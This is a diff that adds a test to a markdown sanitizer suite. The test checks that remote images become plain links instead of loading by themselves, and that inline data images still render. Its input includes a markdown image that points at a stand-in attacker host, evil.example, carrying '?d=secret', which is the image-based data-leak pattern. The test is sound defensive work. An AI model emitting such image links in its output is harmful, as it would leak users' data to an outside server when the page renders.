@@ -443,3 +443,16 @@ describe("sanitizer layers", () => {
     });
   });
 });
+
+describe("remote images in markdown", () => {
+  it("become links instead of loading by themselves; data images still show", () => {
+    const html = renderMarkdown("![chart](https://evil.example/?d=secret) ![dot](data:image/png;base64,iVBORw0KGgo=)");
+    const box = document.createElement("div");
+    box.innerHTML = html;
+    expect(box.querySelector('img[src^="https:"]')).toBeNull();
+    const link = box.querySelector("a");
+    expect(link?.getAttribute("href")).toBe("https://evil.example/?d=secret");
+    expect(link?.textContent).toContain("chart");
+    expect(box.querySelector('img[src^="data:image/png"]')).not.toBeNull();
+  });
+});
